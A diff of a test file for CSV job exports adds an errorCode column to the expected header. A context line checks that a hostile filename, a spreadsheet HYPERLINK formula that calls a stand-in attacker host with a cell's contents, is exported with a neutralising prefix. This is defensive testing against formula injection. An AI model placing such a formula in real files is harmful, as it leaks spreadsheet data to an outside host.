@@ -65,7 +65,7 @@ describe('job exports and wait estimates', () => {
     expect(csv.status).toBe(200);
     expect(csv.headers.get('content-type')).toContain('text/csv');
     const header = csv.text.split('\n')[0];
-    expect(header).toBe('jobId,status,format,templateId,templateVersion,batchId,filename,errorMessage,metadata,createdAt,completedAt');
+    expect(header).toBe('jobId,status,format,templateId,templateVersion,batchId,filename,errorCode,errorMessage,metadata,createdAt,completedAt');
 
     // Each hostile filename appears once, prefixed, and never bare at the start of a cell.
     expect(csv.text).toContain(`,"'=HYPERLINK(""evil.example?""&A1,""Click"")",`);
